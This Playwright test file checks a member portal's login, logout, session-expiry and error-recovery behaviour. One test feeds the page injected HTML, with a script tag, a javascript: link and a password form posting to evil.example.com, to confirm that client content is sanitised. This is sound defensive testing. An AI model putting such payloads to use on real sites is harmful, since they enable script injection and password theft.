import type { Page } from '@playwright/test'
import { expectGoodOnAllScreens } from './cases.ts'
import { keptMember, loginPage, logoutButton, memberPage, openMemberPage } from './members.ts'
import { expect, test } from './portal-test.ts'
import { password } from './staff.ts'

test.use({
  initialData: 'demo',
  expectedMessages: [/status of (401|500)|Failed to load resource/],
})

const ended = 'Your session has ended, so we logged you out for your security. Please log in again.'
const login = (page: Page) => page.getByRole('heading', { level: 1, name: 'Member Login' })

test('a member without an ID card sees the client content and no form', async ({ page }) => {
  await openMemberPage(page, 'lagoon-member')
  await expect(page).toHaveTitle('Lagoon Health Plan · Harborline Assistance')
  await expect(page.getByRole('link', { name: '1-800-555-0150' })).toHaveAttribute('href', 'tel:+18005550150')
  await expect(page.getByRole('button', { name: 'Display Insurance Card' })).toHaveCount(0)
  await expect(page.getByText('German')).toHaveCount(0)
  await expectGoodOnAllScreens(page)
})

test('client content cannot run scripts or submit forms', async ({ page }) => {
  const content = `<p id="x">Safe <a href="javascript:alert(1)">words</a></p><script>alert(1)</script>
    <form action="https://evil.example.com"><input name="password"></form>`
  await page.route('/api/clientmember/page', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, json: { ...(await response.json()), content } })
  })
  await openMemberPage(page, 'lagoon-member')
  const written = page.getByRole('main').locator('.written')
  await expect(written).toHaveText(/Safe words/)
  await expect(written.locator('form, input, script, [href], [id]')).toHaveCount(0)
})

test('the member page and the login page redirect to each other depending on login state', async ({
  page,
}) => {
  await page.goto(memberPage)
  await expect(page).toHaveURL(loginPage)
  await expect(login(page)).toBeVisible()
  await expect(page.getByText(ended)).toHaveCount(0)
  await openMemberPage(page, 'alpine-member')
  await page.goto(loginPage)
  await expect(page).toHaveURL(memberPage)
})

test('logout clears browser data and ends the server session, and the back button shows nothing', async ({
  page,
}) => {
  await openMemberPage(page, 'alpine-member')
  const logoutResponse = page.waitForResponse('/api/clientmember/logout')
  await logoutButton(page).click()
  await expect(login(page)).toBeVisible()
  await expect(page.getByRole('status').filter({ hasText: 'You’re logged out.' })).toBeVisible()
  await expect(page.getByRole('main')).toBeFocused()
  await expectGoodOnAllScreens(page)
  await (await logoutResponse).finished()
  expect(await keptMember(page)).toBeNull()
  await page.getByRole('button', { name: 'Log in' }).click()
  await expect(page.getByText('Enter your username.').first()).toBeVisible()
  await expect(page.getByText('You’re logged out.')).toHaveCount(0)
  expect((await page.context().request.get('/api/clientmember/page')).status()).toBe(401)
  await page.goBack()
  await page.goto(memberPage)
  await expect(login(page)).toBeVisible()
  await expect(page.getByText('Alpine Travel Insurance')).toHaveCount(0)
})

test('the back button after logout leads to the login page', async ({ page }) => {
  await openMemberPage(page, 'alpine-member')
  await page.getByRole('contentinfo').getByRole('link', { name: 'Credits' }).click()
  await expect(page.getByRole('heading', { level: 1, name: 'Credits' })).toBeVisible()
  await page.goBack()
  await logoutButton(page).click()
  await expect(login(page)).toBeVisible()
  await page.goBack()
  await page.goForward()
  await expect(page).toHaveURL(loginPage)
  await expect(page.getByText('Alpine Travel Insurance')).toHaveCount(0)
})

test('logout in one tab logs out the other', async ({ page, context }) => {
  await openMemberPage(page, 'alpine-member')
  const other = await context.newPage()
  await other.goto(memberPage)
  await logoutButton(other).click()
  await expect(login(page)).toBeVisible()
  await expect(page.getByText('Alpine Travel Insurance')).toHaveCount(0)
})

test('a session ended on the server leads to the login page with the reason', async ({ page, context }) => {
  await openMemberPage(page, 'alpine-member')
  await context.clearCookies()
  await page.reload()
  await expect(login(page)).toBeVisible()
  await expect(page.getByRole('status').filter({ hasText: ended })).toBeVisible()
  await expectGoodOnAllScreens(page)
  expect(await keptMember(page)).toBeNull()
})

test('returning to a page after the session has ended leads to the login page', async ({ page, context }) => {
  await openMemberPage(page, 'alpine-member')
  await context.clearCookies()
  await page.evaluate(() => window.dispatchEvent(new Event('visibilitychange')))
  await expect(page.getByText(ended)).toBeVisible()
})

test('forged local storage shows nothing without a session', async ({ page }) => {
  await page.goto('/robots.txt', { waitUntil: 'load' })
  await page.evaluate(() =>
    localStorage.setItem(
      'memberConfiguration',
      JSON.stringify({
        clientName: 'Made up',
        content: 'Made up',
        showIdCard: true,
        showEnglishAndGerman: true,
      }),
    ),
  )
  await page.goto(memberPage)
  await expect(login(page)).toBeVisible()
  await expect(page.getByText('Made up')).toHaveCount(0)
})

test('a page that fails to load shows an error and recovers on retry', async ({ page }) => {
  await openMemberPage(page, 'alpine-member')
  await page.route('/api/clientmember/page', (route) => route.abort())
  await page.reload()
  await expect(page.getByText('We couldn’t load your page.')).toBeVisible()
  await expect(logoutButton(page)).toBeVisible()
  await expectGoodOnAllScreens(page)
  await page.unroute('/api/clientmember/page')
  await page.getByRole('button', { name: 'Try again' }).click()
  await expect(page.getByRole('heading', { level: 1, name: 'Alpine Travel Insurance' })).toBeVisible()
})

test('an offline logout clears the browser and shows what to do', async ({ page }) => {
  await openMemberPage(page, 'alpine-member')
  await page.route('/api/clientmember/logout', (route) => route.abort())
  await logoutButton(page).click()
  await expect(login(page)).toBeVisible()
  await expect(page.getByRole('alert')).toContainText(
    'You’re logged out in this browser, but we couldn’t reach the portal',
  )
  expect(await keptMember(page)).toBeNull()
})

test('another member in the same browser sees their own page', async ({ page, context }) => {
  await openMemberPage(page, 'alpine-member')
  const other = await context.newPage()
  await other.goto(memberPage)
  await logoutButton(other).click()
  await expect(login(other)).toBeVisible()
  await other.getByLabel('Username').fill('lagoon-member')
  await other.getByLabel('Password', { exact: true }).fill(password)
  await other.keyboard.press('Enter')
  await expect(other.getByRole('heading', { level: 1, name: 'Lagoon Health Plan' })).toBeVisible()
  await expect(page).toHaveURL(loginPage)
})
